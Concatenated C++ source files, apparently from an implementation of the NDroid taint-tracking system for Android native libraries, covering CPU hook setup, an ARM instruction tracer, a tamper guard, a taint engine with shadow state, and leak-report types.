        if (config_.dvm_hooks && dvm_hooks_->wants_branch(to)) {
          dvm_hooks_->on_branch(cpu, from, to);
        }
        if ((config_.syslib_models || config_.sink_checks) &&
            syslib_->wants_branch(to)) {
          syslib_->on_branch(cpu, from, to);
        }
        // Every mutation of wants_branch()-relevant state happens inside the
        // dispatch above (the engines' static hook tables are fixed at
        // construction), so bumping here keeps the per-block branch memos
        // sound: they stay valid exactly while no hook body has run.
        ++analysis_epoch_;
      },
      /*gated=*/true);
  // The branch gate mirrors the hook's own prefilters exactly: gate false
  // implies the hook body above is a guaranteed no-op, which also licenses
  // the executor's quiet self-loop chaining and the per-block edge memo
  // (validated against analysis_epoch_).
  device_.cpu.set_branch_gate(
      [this](arm::Cpu&, GuestAddr /*from*/, GuestAddr to) {
        return (config_.dvm_hooks && dvm_hooks_->wants_branch(to)) ||
               ((config_.syslib_models || config_.sink_checks) &&
                syslib_->wants_branch(to));
      },
      &analysis_epoch_);
  // The hook consents to block-level gating: when the CPU runs translation
  // blocks, block_gate() may skip it for whole blocks that cannot move
  // taint (the liveness fast path).
  insn_hook_id_ = device_.cpu.add_insn_hook(
      [this](arm::Cpu& cpu, const arm::Insn& insn, GuestAddr pc) {
        if (config_.instruction_tracer) tracer_->on_insn(cpu, insn, pc);
        if (config_.sink_checks) syslib_->on_insn(cpu, insn, pc);
        if (guard_) guard_->on_insn(cpu, insn, pc);
      },
      /*gated=*/true);
  if (config_.taint_liveness_fastpath) {
    // The gate's only runtime-variable inputs are the two taint-liveness
    // booleans, so the engine's liveness epoch (bumped on zero-crossings of
    // register or memory taint) lets the executor memoise the answer
    // per block until taint actually appears or vanishes.
    device_.cpu.set_block_gate(
        [this](arm::Cpu&, arm::TranslationBlock& tb) { return block_gate(tb); },
        engine_.liveness_epoch());
  }
  // Trace emitter for the threaded tier: pre-resolves the insn hook body
  // above into per-instruction fused thunks. The fallbacks mirror that body
  // exactly — any instruction a non-tracer engine could act on (syslib's
  // SVC sinks, the guard's store checks) keeps generic hook dispatch; for
  // the rest, the hook reduces to the tracer alone, which prepare()
  // resolves to a thunk or a provable no-op.
  device_.cpu.set_trace_emitter(
      [this](const arm::TranslationBlock&,
             const arm::TbInsn& ti) -> std::optional<arm::TraceOp> {
        if (config_.sink_checks && ti.insn.op == arm::Op::kSvc) {
          return std::nullopt;
        }
        if (guard_ != nullptr &&
            (ti.taint_class == arm::TaintClass::kStore ||
             ti.taint_class == arm::TaintClass::kStm)) {
          return std::nullopt;
        }
        if (!config_.instruction_tracer) return arm::TraceOp{};
        return tracer_->prepare(ti);
      });
  // Taint-fused JIT view: the raw state the jit tier bakes into traced host
  // streams (register label file, shadow-page TLB, counter slots) plus the
  // bookkeeping-complete slow paths. Withheld when the tracer logs
  // disassembly — inline transfers cannot reproduce the per-instruction
  // log, so those runs ride the threaded traced streams instead.
  if (config_.instruction_tracer && !config_.trace_disassembly) {
    arm::TaintJitView view;
    view.reg_labels = engine_.jit_reg_labels();
    view.sync = [](void* ctx, u32 written) {
      static_cast<TaintEngine*>(ctx)->jit_resync(static_cast<u16>(written));
    };
    view.sync_ctx = &engine_;
    view.shadow_tlb = engine_.map().jit_tlb_base();
    view.shadow_tlb_slots = mem::ShadowMemory::kJitTlbSlots;
    view.shadow_read = [](void* ctx, u32 addr, u32 len) -> u32 {
      auto* m = static_cast<mem::ShadowMemory*>(ctx);
      m->jit_fill(addr);  // next access to this page hits inline
      return m->get_range(addr, len);
    };
    view.shadow_write = [](void* ctx, u32 addr, u32 len, u32 taint) {
      static_cast<mem::ShadowMemory*>(ctx)->set_range(addr, len, taint);
    };
    view.mem_ctx = &engine_.map();
    view.traced_ctr = tracer_->traced_slot();
    view.cache_ctr =
        tracer_->cache_enabled() ? tracer_->cache_hits_slot() : nullptr;
    view.prop_ctr = &engine_.propagations;
    device_.cpu.set_taint_jit_view(&view);
  }
}

const SummaryGate* NDroid::attach_static_analysis() {
  if (!config_.static_summaries) return nullptr;
  using android::Layout;
  namespace sa = static_analysis;

  // (1) Code regions: the app process's third-party library mappings,
  // discovered the way the §V-F layer does — by walking the guest kernel's
  // task list through VMI, not by asking host-side bookkeeping.
  os::ViewReconstructor vmi(device_.memory, os::Kernel::kTaskRoot);
  const auto views = vmi.reconstruct();
  std::vector<sa::CodeRegion> regions;
  for (const auto& proc : views) {
    if (proc.pid != device_.app_pid()) continue;
    for (const auto& r : proc.regions) {
      if (r.start >= Layout::kAppLibBase && r.start < Layout::kHeapBase) {
        regions.push_back({r.start, r.end, r.name});
      }
    }
  }

  // (2) Roots: every registered native method living in third-party code —
  // the JNI entry points the bridge can actually reach, grouped under the
  // library that contains them.
  std::vector<sa::FunctionEntry> entries;
  for (const dvm::Method* m : device_.dvm.native_methods()) {
    const GuestAddr stripped = m->native_addr & ~1u;
    if (stripped >= Layout::kAppLibBase && stripped < Layout::kHeapBase) {
      entries.push_back(
          {m->native_addr, m->clazz->descriptor() + "." + m->name});
    }
  }

  // (3) One immutable artifact per library: lifted through the shared
  // process-wide cache when one is configured (first meeting of a content
  // hash lifts, everyone else reuses), privately otherwise. Either way the
  // artifact is bound to this process's load base — a zero-copy share when
  // the bases coincide, a conservative relocation when they don't.
  std::vector<std::shared_ptr<const sa::LibrarySummary>> libs;
  for (const auto& region : regions) {
    std::vector<sa::FunctionEntry> lib_entries;
    for (const auto& e : entries) {
      const GuestAddr stripped = e.addr & ~1u;
      if (stripped >= region.start && stripped < region.end) {
        lib_entries.push_back(e);
      }
    }
    auto lift = [this, &region, &lib_entries] {
      return sa::analyze_library(device_.memory, region, lib_entries);
    };
    if (config_.summary_cache != nullptr) {
      std::vector<u8> image(region.end - region.start);
      device_.memory.read_bytes(region.start, image);
      const u64 key = sa::library_key(image, lib_entries, region.start);
      libs.push_back(
          config_.summary_cache->acquire(key, region.start, lift));
    } else if (config_.summary_store != nullptr) {
      // Cache-less persistent path (isolated worker processes): a
      // hash-verified store entry replaces the lift; corruption or absence
      // falls back to lifting fresh and rewriting the entry.
      std::vector<u8> image(region.end - region.start);
      device_.memory.read_bytes(region.start, image);
      const u64 key = sa::library_key(image, lib_entries, region.start);
      std::shared_ptr<const sa::LibrarySummary> lib =
          config_.summary_store->load(key);
      if (lib == nullptr) {
        lib = std::make_shared<const sa::LibrarySummary>(lift());
        config_.summary_store->save(*lib);
      }
      libs.push_back(sa::bind_library(std::move(lib), region.start));
    } else {
      libs.push_back(sa::bind_library(
          std::make_shared<const sa::LibrarySummary>(lift()), region.start));
    }
  }
  summary_gate_ = std::make_unique<SummaryGate>(std::move(libs));

  // (3) Feedback into the dynamic layer: transparent JNI methods need no
  // SourcePolicy at all...
  std::unordered_set<GuestAddr> transparent;
  for (GuestAddr e : summary_gate_->transparent_entries()) {
    transparent.insert(e);
  }
  dvm_hooks_->set_transparent_methods(std::move(transparent));

  // ...and the block gate re-arms on the finer taint-mutation epoch so the
  // summary answers in block_gate stay memo-sound (set_block_gate flushes
  // every existing per-block memo).
  if (config_.taint_liveness_fastpath) {
    device_.cpu.set_block_gate(
        [this](arm::Cpu&, arm::TranslationBlock& tb) { return block_gate(tb); },
        engine_.mutation_epoch());
  }
  return summary_gate_.get();
}

NDroid::~NDroid() {
  device_.cpu.set_taint_jit_view(nullptr);
  device_.cpu.set_trace_emitter(nullptr);
  device_.cpu.remove_branch_hook(branch_hook_id_);
  device_.cpu.remove_insn_hook(insn_hook_id_);
  device_.cpu.set_block_gate(nullptr);
  device_.cpu.set_branch_gate(nullptr);
}

}  // namespace ndroid::core
