// NDroid's Instruction Tracer (paper §V-C).
//
// "By instrumenting third-party native libraries, the instruction tracer
// monitors each ARM/Thumb instruction to determine how the taint
// propagates." Implements the Table V propagation logic:
//
//   binary-op Rd,Rn,Rm    t(Rd) = t(Rn) | t(Rm)
//   binary-op Rd,Rm       t(Rd) = t(Rd) | t(Rm)
//   binary-op Rd,Rm,#imm  t(Rd) = t(Rm)
//   unary Rd,Rm           t(Rd) = t(Rm)
//   mov Rd,#imm           t(Rd) = clear
//   mov Rd,Rm             t(Rd) = t(Rm)
//   LDR* Rd,[Rn,#imm]     t(Rd) = t(M[addr]) | t(Rn)
//   LDM/POP               t(Ri) = t(M[addr_i]) | t(Rn)
//   STR* Rd,[Rn,#imm]     t(M[addr]) = t(Rd)
//   STM/PUSH              t(M[addr_i]) = t(Ri)
//
// "To speed up the identification of the instruction type and the search of
// the handler, NDroid caches hot instructions and the corresponding
// handlers" — the handler cache is a direct-mapped array keyed by raw
// instruction word (same golden-ratio hash as the CPU's decode cache) and
// can be disabled for the ablation experiment.
#pragma once

#include <array>
#include <functional>

#include "arm/cpu.h"
#include "core/report.h"
#include "core/taint_engine.h"

namespace ndroid::core {

class InstructionTracer {
 public:
  /// `in_scope` decides whether an instruction at a given address belongs to
  /// code the tracer instruments (third-party native libraries for NDroid;
  /// everything for DroidScope-mode).
  InstructionTracer(TaintEngine& engine,
                    std::function<bool(GuestAddr)> in_scope,
                    bool use_handler_cache = true,
                    TraceLog* disasm_log = nullptr);

  /// Applies the Table V rule for `insn` (called before execution, with the
  /// pre-state in `cpu`). No-op when the address is out of scope.
  void on_insn(arm::Cpu& cpu, const arm::Insn& insn, GuestAddr pc);

  /// Threaded-tier emission hook: resolves the scope check and the Table V
  /// handler classification for `ti` once, returning a fused thunk that
  /// performs only the residual per-execution work (condition check +
  /// handler body). An empty op (fn == nullptr) means the tracer provably
  /// no-ops on this instruction forever — scope is a static property of
  /// the address and classification of the encoding.
  [[nodiscard]] arm::TraceOp prepare(const arm::TbInsn& ti);

  [[nodiscard]] u64 instructions_traced() const { return traced_; }
  [[nodiscard]] u64 cache_hits() const { return cache_hits_; }

  // --- Traced-JIT counter export --------------------------------------------
  // The taint-fused JIT inlines Table V handlers into host code and keeps the
  // tracer's statistics exact by folding constant increments into each traced
  // exit. These expose the counter slots (and the flags that decide what an
  // inline-handled instruction would have bumped / whether inlining is legal
  // at all) for baking into emitted code.
  [[nodiscard]] u64* traced_slot() { return &traced_; }
  [[nodiscard]] u64* cache_hits_slot() { return &cache_hits_; }
  [[nodiscard]] bool cache_enabled() const { return use_cache_; }
  [[nodiscard]] bool logs_disassembly() const { return disasm_log_ != nullptr; }

 private:
  /// Pre-classified handler for one raw instruction encoding.
  using Handler = void (InstructionTracer::*)(arm::Cpu&, const arm::Insn&,
                                              GuestAddr);

  void handle_binary3(arm::Cpu& cpu, const arm::Insn& insn, GuestAddr pc);
  void handle_binary2(arm::Cpu& cpu, const arm::Insn& insn, GuestAddr pc);
  void handle_unary(arm::Cpu& cpu, const arm::Insn& insn, GuestAddr pc);
  void handle_mov_imm(arm::Cpu& cpu, const arm::Insn& insn, GuestAddr pc);
  void handle_mov_reg(arm::Cpu& cpu, const arm::Insn& insn, GuestAddr pc);
  void handle_load(arm::Cpu& cpu, const arm::Insn& insn, GuestAddr pc);
  void handle_store(arm::Cpu& cpu, const arm::Insn& insn, GuestAddr pc);
  void handle_ldm(arm::Cpu& cpu, const arm::Insn& insn, GuestAddr pc);
  void handle_stm(arm::Cpu& cpu, const arm::Insn& insn, GuestAddr pc);

  [[nodiscard]] Handler classify(const arm::Insn& insn) const;
  [[nodiscard]] static u32 access_size(const arm::Insn& insn);

  /// Pre-resolved context a prepare()d thunk runs with (kept alive by the
  /// TraceOp's keepalive).
  struct Prepared {
    InstructionTracer* self;
    Handler handler;
  };
  static void run_prepared(void* ctx, arm::Cpu& cpu, const arm::Insn& insn,
                           GuestAddr pc);

  /// Direct-mapped handler cache. The sentinel key never matches a hit with
  /// a stale handler: 0xFFFFFFFF decodes to an unconditional-NV undefined
  /// instruction whose handler is nullptr — the same value the slot holds
  /// when empty.
  struct HandlerEntry {
    u32 key = 0xFFFFFFFFu;
    Handler handler = nullptr;
  };
  static constexpr u32 kHandlerCacheBits = 12;

  TaintEngine& engine_;
  std::function<bool(GuestAddr)> in_scope_;
  bool use_cache_;
  TraceLog* disasm_log_;  // per-instruction disassembly when non-null
  std::array<HandlerEntry, 1u << kHandlerCacheBits> handler_cache_;
  u64 traced_ = 0;
  u64 cache_hits_ = 0;
};

}  // namespace ndroid::core
