#include "core/instruction_tracer.h"

#include "arm/executor.h"

namespace ndroid::core {

using arm::Insn;
using arm::Op;
using arm::TaintClass;

InstructionTracer::InstructionTracer(TaintEngine& engine,
                                     std::function<bool(GuestAddr)> in_scope,
                                     bool use_handler_cache,
                                     TraceLog* disasm_log)
    : engine_(engine),
      in_scope_(std::move(in_scope)),
      use_cache_(use_handler_cache),
      disasm_log_(disasm_log) {}

u32 InstructionTracer::access_size(const Insn& insn) {
  switch (insn.op) {
    case Op::kLdrb:
    case Op::kLdrsb:
    case Op::kStrb:
      return 1;
    case Op::kLdrh:
    case Op::kLdrsh:
    case Op::kStrh:
      return 2;
    default:
      return 4;
  }
}

InstructionTracer::Handler InstructionTracer::classify(
    const Insn& insn) const {
  switch (insn.taint_class()) {
    case TaintClass::kBinaryOp3: return &InstructionTracer::handle_binary3;
    case TaintClass::kBinaryOp2: return &InstructionTracer::handle_binary2;
    case TaintClass::kUnary: return &InstructionTracer::handle_unary;
    case TaintClass::kMovImm: return &InstructionTracer::handle_mov_imm;
    case TaintClass::kMovReg: return &InstructionTracer::handle_mov_reg;
    case TaintClass::kLoad: return &InstructionTracer::handle_load;
    case TaintClass::kStore: return &InstructionTracer::handle_store;
    case TaintClass::kLdm: return &InstructionTracer::handle_ldm;
    case TaintClass::kStm: return &InstructionTracer::handle_stm;
    case TaintClass::kNone: return nullptr;
  }
  return nullptr;
}

void InstructionTracer::on_insn(arm::Cpu& cpu, const Insn& insn,
                                GuestAddr pc) {
  if (!in_scope_(pc)) return;
  if (!arm::condition_passed(arm::effective_cond(insn, cpu.state()),
                             cpu.state())) {
    return;
  }

  Handler handler;
  if (use_cache_) {
    // Same golden-ratio hash as the CPU's decode cache; collisions merely
    // re-classify (the entry is overwritten, never mixed).
    const u32 index = static_cast<u32>(
        (insn.raw * 0x9E3779B97F4A7C15ull) >> (64 - kHandlerCacheBits));
    HandlerEntry& entry = handler_cache_[index];
    if (entry.key == insn.raw) {
      handler = entry.handler;
      ++cache_hits_;
    } else {
      handler = classify(insn);
      entry = {insn.raw, handler};
    }
  } else {
    handler = classify(insn);
  }
  if (handler == nullptr) return;
  ++traced_;
  ++engine_.propagations;
  if (disasm_log_ != nullptr) {
    char buf[16];
    std::snprintf(buf, sizeof buf, "%08x  ", pc);
    disasm_log_->line(buf + arm::disassemble(insn, pc));
  }
  (this->*handler)(cpu, insn, pc);
}

arm::TraceOp InstructionTracer::prepare(const arm::TbInsn& ti) {
  arm::TraceOp op;
  if (!in_scope_(ti.pc)) return op;
  const Handler handler = classify(ti.insn);
  if (handler == nullptr) return op;
  auto ctx = std::make_shared<Prepared>(Prepared{this, handler});
  op.fn = &InstructionTracer::run_prepared;
  op.ctx = ctx.get();
  op.keepalive = std::move(ctx);
  return op;
}

void InstructionTracer::run_prepared(void* ctx, arm::Cpu& cpu,
                                     const Insn& insn, GuestAddr pc) {
  auto* p = static_cast<Prepared*>(ctx);
  InstructionTracer* self = p->self;
  if (!arm::condition_passed(arm::effective_cond(insn, cpu.state()),
                             cpu.state())) {
    return;
  }
  // The emission-time classification plays the handler cache's role here;
  // count it as a hit so the cache-effectiveness counters stay comparable
  // across execution tiers.
  if (self->use_cache_) ++self->cache_hits_;
  ++self->traced_;
  ++self->engine_.propagations;
  if (self->disasm_log_ != nullptr) {
    char buf[16];
    std::snprintf(buf, sizeof buf, "%08x  ", pc);
    self->disasm_log_->line(buf + arm::disassemble(insn, pc));
  }
  (self->*(p->handler))(cpu, insn, pc);
}

void InstructionTracer::handle_binary3(arm::Cpu&, const Insn& insn,
                                       GuestAddr) {
  // binary-op Rd, Rn, Rm -> t(Rd) = t(Rn) | t(Rm);
  // binary-op Rd, Rn, #imm -> t(Rd) = t(Rn).
  Taint t = engine_.reg(insn.rn);
  if (!insn.imm_operand) t |= engine_.reg(insn.rm);
  // Accumulate forms read a third register (MLA's Ra, long-multiply's Rs).
  if (insn.op == Op::kMla || insn.op == Op::kUmull ||
      insn.op == Op::kSmull) {
    t |= engine_.reg(insn.rs);
  }
  engine_.set_reg(insn.rd, t);
  if (insn.op == Op::kUmull || insn.op == Op::kSmull) {
    engine_.set_reg(insn.rn, t);  // RdHi
  }
}

void InstructionTracer::handle_binary2(arm::Cpu&, const Insn& insn,
                                       GuestAddr) {
  // Rd = Rd op Rm/#imm -> add the operand taint to t(Rd).
  Taint t = engine_.reg(insn.rd);
  if (!insn.imm_operand) t |= engine_.reg(insn.rm);
  engine_.set_reg(insn.rd, t);
}

void InstructionTracer::handle_unary(arm::Cpu&, const Insn& insn,
                                     GuestAddr) {
  engine_.set_reg(insn.rd, engine_.reg(insn.rm));
}

void InstructionTracer::handle_mov_imm(arm::Cpu&, const Insn& insn,
                                       GuestAddr) {
  engine_.set_reg(insn.rd, kTaintClear);
}

void InstructionTracer::handle_mov_reg(arm::Cpu&, const Insn& insn,
                                       GuestAddr) {
  engine_.set_reg(insn.rd, engine_.reg(insn.rm));
}

void InstructionTracer::handle_load(arm::Cpu& cpu, const Insn& insn,
                                    GuestAddr pc) {
  const GuestAddr addr = arm::mem_effective_address(insn, cpu.state(), pc);
  const Taint t =
      engine_.map().get_range(addr, access_size(insn)) | engine_.reg(insn.rn);
  engine_.set_reg(insn.rd, t);
}

void InstructionTracer::handle_store(arm::Cpu& cpu, const Insn& insn,
                                     GuestAddr pc) {
  const GuestAddr addr = arm::mem_effective_address(insn, cpu.state(), pc);
  engine_.map().set_range(addr, access_size(insn), engine_.reg(insn.rd));
}

void InstructionTracer::handle_ldm(arm::Cpu& cpu, const Insn& insn,
                                   GuestAddr) {
  const arm::BlockTransfer bt = arm::block_transfer(insn, cpu.state());
  const Taint base_taint = engine_.reg(insn.rn);
  GuestAddr addr = bt.start;
  for (u8 r = 0; r < 16; ++r) {
    if (!(insn.reglist & (1u << r))) continue;
    engine_.set_reg(r, engine_.map().get_range(addr, 4) | base_taint);
    addr += 4;
  }
}

void InstructionTracer::handle_stm(arm::Cpu& cpu, const Insn& insn,
                                   GuestAddr) {
  const arm::BlockTransfer bt = arm::block_transfer(insn, cpu.state());
  GuestAddr addr = bt.start;
  for (u8 r = 0; r < 16; ++r) {
    if (!(insn.reglist & (1u << r))) continue;
    engine_.map().set_range(addr, 4, engine_.reg(r));
    addr += 4;
  }
}

}  // namespace ndroid::core
