#include "core/taint_guard.h"

#include "arm/executor.h"

namespace ndroid::core {

TaintGuard::TaintGuard(android::Device& device,
                       std::function<bool(GuestAddr)> third_party)
    : device_(device), third_party_(std::move(third_party)) {
  using android::Layout;
  protected_.push_back({Layout::kDalvikStack,
                        Layout::kDalvikStack + Layout::kDalvikStackSize,
                        "[dalvik-stack]"});
  protected_.push_back(
      {Layout::kLibdvm, Layout::kLibdvm + Layout::kLibdvmSize, "libdvm.so"});
  protected_.push_back({os::Kernel::kKernelBase,
                        os::Kernel::kKernelBase + os::Kernel::kKernelSize,
                        "[kernel]"});
}

void TaintGuard::check(arm::Cpu& cpu, GuestAddr pc, GuestAddr target) {
  for (const Protected& p : protected_) {
    if (target >= p.start && target < p.end) {
      alerts_.push_back(TamperAlert{pc, target, p.name,
                                    cpu.memmap().module_of(pc)});
      return;
    }
  }
}

void TaintGuard::on_insn(arm::Cpu& cpu, const arm::Insn& insn, GuestAddr pc) {
  if (!third_party_(pc)) return;
  if (!arm::condition_passed(arm::effective_cond(insn, cpu.state()),
                             cpu.state())) {
    return;
  }
  switch (insn.taint_class()) {
    case arm::TaintClass::kStore:
      check(cpu, pc, arm::mem_effective_address(insn, cpu.state(), pc));
      break;
    case arm::TaintClass::kStm: {
      const arm::BlockTransfer bt = arm::block_transfer(insn, cpu.state());
      for (u32 i = 0; i < bt.count; ++i) {
        check(cpu, pc, bt.start + 4 * i);
      }
      break;
    }
    default:
      break;
  }
}

}  // namespace ndroid::core
