// NDroid's Taint Engine (paper §V-E).
//
// "NDroid maintains shadow registers to store the related registers' taints
// and a taint map to store the memories' taints. The taint granularity of
// NDroid is byte. The general propagation logic behind NDroid follows the
// 'or' operation."
//
// The engine also keeps the indirect-reference-keyed shadow for Java objects
// held from native code (§V-B): "the shadow memory uses the indirect
// reference as key to locate the taint information", because the moving GC
// invalidates direct pointers.
#pragma once

#include <array>
#include <unordered_map>

#include "common/types.h"
#include "mem/shadow_memory.h"

namespace ndroid::core {

class TaintEngine {
 public:
  // --- Shadow registers ---------------------------------------------------
  [[nodiscard]] Taint reg(u8 index) const { return regs_[index]; }
  void set_reg(u8 index, Taint t) { regs_[index] = t; }
  void add_reg(u8 index, Taint t) { regs_[index] |= t; }
  void clear_regs() { regs_.fill(kTaintClear); }

  // --- Taint map (guest memory shadows) ------------------------------------
  mem::ShadowMemory& map() { return map_; }
  [[nodiscard]] const mem::ShadowMemory& map() const { return map_; }

  // --- Java-object shadow keyed by indirect reference ----------------------
  [[nodiscard]] Taint object_shadow(u32 iref) const {
    auto it = object_shadow_.find(iref);
    return it == object_shadow_.end() ? kTaintClear : it->second;
  }
  void add_object_shadow(u32 iref, Taint t) {
    if (t != kTaintClear) object_shadow_[iref] |= t;
  }
  void clear_object_shadow() { object_shadow_.clear(); }

  void clear_all() {
    clear_regs();
    map_.clear_all();
    object_shadow_.clear();
  }

  // --- Statistics -----------------------------------------------------------
  u64 propagations = 0;  // taint-rule applications by the instruction tracer

 private:
  std::array<Taint, 16> regs_{};
  mem::ShadowMemory map_;
  std::unordered_map<u32, Taint> object_shadow_;
};

}  // namespace ndroid::core
