// NDroid's Taint Engine (paper §V-E).
//
// "NDroid maintains shadow registers to store the related registers' taints
// and a taint map to store the memories' taints. The taint granularity of
// NDroid is byte. The general propagation logic behind NDroid follows the
// 'or' operation."
//
// The engine also keeps the indirect-reference-keyed shadow for Java objects
// held from native code (§V-B): "the shadow memory uses the indirect
// reference as key to locate the taint information", because the moving GC
// invalidates direct pointers.
#pragma once

#include <array>
#include <bit>
#include <unordered_map>

#include "common/types.h"
#include "mem/shadow_memory.h"

namespace ndroid::core {

class TaintEngine {
 public:
  TaintEngine() {
    map_.set_liveness_epoch_slot(&liveness_epoch_);
    map_.set_mutation_epoch_slot(&mutation_epoch_);
  }
  // The shadow map holds a pointer back into this object.
  TaintEngine(const TaintEngine&) = delete;
  TaintEngine& operator=(const TaintEngine&) = delete;

  // --- Shadow registers ---------------------------------------------------
  [[nodiscard]] Taint reg(u8 index) const { return regs_[index]; }
  void set_reg(u8 index, Taint t) {
    const bool was = tainted_regs_ != 0;
    tainted_regs_ += (t != kTaintClear) - (regs_[index] != kTaintClear);
    regs_[index] = t;
    const u16 bit = static_cast<u16>(1u << index);
    const u16 mask = static_cast<u16>(
        t != kTaintClear ? tainted_reg_mask_ | bit : tainted_reg_mask_ & ~bit);
    mutation_epoch_ += mask != tainted_reg_mask_;
    tainted_reg_mask_ = mask;
    liveness_epoch_ += (tainted_regs_ != 0) != was;
  }
  void add_reg(u8 index, Taint t) {
    if (t == kTaintClear) return;
    liveness_epoch_ += tainted_regs_ == 0 && regs_[index] == kTaintClear;
    tainted_regs_ += (regs_[index] == kTaintClear);
    regs_[index] |= t;
    const u16 bit = static_cast<u16>(1u << index);
    mutation_epoch_ += (tainted_reg_mask_ & bit) == 0;
    tainted_reg_mask_ |= bit;
  }
  void clear_regs() {
    liveness_epoch_ += tainted_regs_ != 0;
    mutation_epoch_ += tainted_reg_mask_ != 0;
    regs_.fill(kTaintClear);
    tainted_regs_ = 0;
    tainted_reg_mask_ = 0;
  }

  // --- Traced-JIT view ------------------------------------------------------
  // The taint-fused JIT streams propagate register labels by writing regs_
  // directly through this pointer (pinned in a host register), deferring the
  // count/mask/epoch bookkeeping to jit_resync() at every traced-block exit.
  // Gates and liveness checks only ever observe the engine between blocks,
  // after the resync — never the raw intermediate states.
  [[nodiscard]] Taint* jit_reg_labels() { return regs_.data(); }

  /// Reconciles the incremental bookkeeping after emitted host code wrote
  /// label slots raw. `written` holds a bit per register the traced stream
  /// may have written since the last resync; only those slots can be
  /// inconsistent with tainted_regs_/tainted_reg_mask_, so only they are
  /// re-derived. Equivalent to replaying set_reg(r, regs_[r]) per dirty bit.
  void jit_resync(u16 written) {
    const bool was = tainted_regs_ != 0;
    u16 mask = tainted_reg_mask_;
    for (u16 w = written; w != 0; w &= w - 1) {
      const int r = std::countr_zero(w);
      const u16 bit = static_cast<u16>(1u << r);
      const bool now = regs_[r] != kTaintClear;
      tainted_regs_ += static_cast<u32>(now) - ((mask & bit) != 0);
      mask = static_cast<u16>(now ? mask | bit : mask & ~bit);
    }
    mutation_epoch_ += mask != tainted_reg_mask_;
    tainted_reg_mask_ = mask;
    liveness_epoch_ += (tainted_regs_ != 0) != was;
  }

  // --- Taint liveness (the translation-block fast path reads these once
  // per block to decide whether the instruction tracer can be skipped) -----
  [[nodiscard]] u32 tainted_regs() const { return tainted_regs_; }
  /// Bit r set iff register r currently carries a non-clear label. The
  /// summary gate intersects this against TaintSummary::touched_regs.
  [[nodiscard]] u16 tainted_reg_mask() const { return tainted_reg_mask_; }
  [[nodiscard]] bool has_live_taint() const {
    return tainted_regs_ != 0 || map_.tainted_bytes() != 0;
  }

  /// Counter bumped whenever register or memory taint liveness crosses zero
  /// — every input of NDroid's block gate that can change at runtime.
  /// Handed to arm::Cpu::set_block_gate so per-block gate answers are
  /// memoised until liveness actually changes.
  [[nodiscard]] const u64* liveness_epoch() const { return &liveness_epoch_; }

  /// Counter bumped whenever the tainted-register *mask* changes or any
  /// shadow page's live count crosses zero — every event that can flip a
  /// summary-gate answer. Strictly more frequent than the liveness epoch;
  /// handed to arm::Cpu::set_block_gate when static summaries are attached.
  [[nodiscard]] const u64* mutation_epoch() const { return &mutation_epoch_; }

  // --- Taint map (guest memory shadows) ------------------------------------
  mem::ShadowMemory& map() { return map_; }
  [[nodiscard]] const mem::ShadowMemory& map() const { return map_; }

  // --- Java-object shadow keyed by indirect reference ----------------------
  [[nodiscard]] Taint object_shadow(u32 iref) const {
    auto it = object_shadow_.find(iref);
    return it == object_shadow_.end() ? kTaintClear : it->second;
  }
  void add_object_shadow(u32 iref, Taint t) {
    if (t != kTaintClear) object_shadow_[iref] |= t;
  }
  void clear_object_shadow() { object_shadow_.clear(); }

  void clear_all() {
    clear_regs();
    map_.clear_all();
    object_shadow_.clear();
  }

  // --- Statistics -----------------------------------------------------------
  u64 propagations = 0;  // taint-rule applications by the instruction tracer

 private:
  std::array<Taint, 16> regs_{};
  u32 tainted_regs_ = 0;
  u16 tainted_reg_mask_ = 0;
  u64 liveness_epoch_ = 0;
  u64 mutation_epoch_ = 0;
  mem::ShadowMemory map_;
  std::unordered_map<u32, Taint> object_shadow_;
};

}  // namespace ndroid::core
