// Leak reports and the analysis trace log.
//
// The trace log reproduces the style of the paper's case-study figures
// (Figs. 6-9): one line per analysis event — method info at dvmCallJNIMethod,
// SourcePolicy application, TrustCall handlers, sink handlers.
#pragma once

#include <cstdio>
#include <map>
#include <string>
#include <vector>

#include "arm/cpu.h"
#include "common/types.h"

namespace ndroid::core {

/// Substrate performance counters (translation-block cache + fast paths),
/// collected from a Cpu for benchmarks and tests.
struct PerfCounters {
  u64 tb_lookups = 0;
  u64 tb_hits = 0;
  u64 tb_translations = 0;
  u64 tb_invalidated = 0;
  u64 tb_flushes = 0;
  u64 fastpath_blocks = 0;  // blocks executed with all insn hooks skipped
  u64 fastpath_insns = 0;   // instructions those blocks retired
  u64 decode_lookups = 0;
  u64 decode_hits = 0;
  u64 threaded_links = 0;    // block transitions that stayed in-loop
  u64 threaded_patches = 0;  // direct-link exit slots (re)patched
  u64 jit_links = 0;            // host-code transitions that stayed native
  u64 jit_patches = 0;          // host link slots (re)patched
  u64 jit_blocks = 0;           // blocks compiled to host code
  u64 jit_bytes = 0;            // bytes of host code emitted
  u64 jit_arena_flushes = 0;    // whole-arena recycles (exhaustion)
  u64 jit_traced_blocks = 0;    // gate-fired blocks run on traced host code
  u64 jit_fallback_blocks = 0;  // hooked dispatches that left the jit tier

  [[nodiscard]] double tb_hit_rate() const {
    return tb_lookups == 0
               ? 0.0
               : static_cast<double>(tb_hits) / static_cast<double>(tb_lookups);
  }
};

inline PerfCounters collect_perf(const arm::Cpu& cpu) {
  const arm::TbCache& tb = cpu.tb_cache();
  PerfCounters c;
  c.tb_lookups = tb.lookups();
  c.tb_hits = tb.hits();
  c.tb_translations = tb.translations();
  c.tb_invalidated = tb.invalidated_blocks();
  c.tb_flushes = tb.flushes();
  c.fastpath_blocks = cpu.fastpath_blocks();
  c.fastpath_insns = cpu.fastpath_insns();
  c.decode_lookups = cpu.decode_lookups();
  c.decode_hits = cpu.decode_hits();
  c.threaded_links = cpu.threaded_links();
  c.threaded_patches = cpu.threaded_patches();
  c.jit_links = cpu.jit_links();
  c.jit_patches = cpu.jit_link_patches();
  c.jit_blocks = cpu.jit_blocks_compiled();
  c.jit_bytes = cpu.jit_bytes_emitted();
  c.jit_arena_flushes = cpu.jit_arena_flushes();
  c.jit_traced_blocks = cpu.jit_traced_blocks();
  c.jit_fallback_blocks = cpu.jit_fallback_blocks();
  return c;
}

/// A leak NDroid detected at a native-context sink (Table VII's starred
/// functions: write*, send*, sendto*, fwrite*, fputc*, fputs*, fprintf).
struct NativeLeak {
  std::string sink;         // function name, e.g. "sendto", "fprintf"
  std::string destination;  // remote host or file path
  Taint taint = kTaintClear;
  std::string data;         // bytes that reached the sink
  GuestAddr pc = 0;         // where the sink call happened
};

/// Aggregate view over a leak list (reporting convenience).
struct LeakSummary {
  u32 total = 0;
  Taint taint_union = kTaintClear;
  std::map<std::string, u32> by_sink;
  std::map<std::string, u32> by_destination;
};

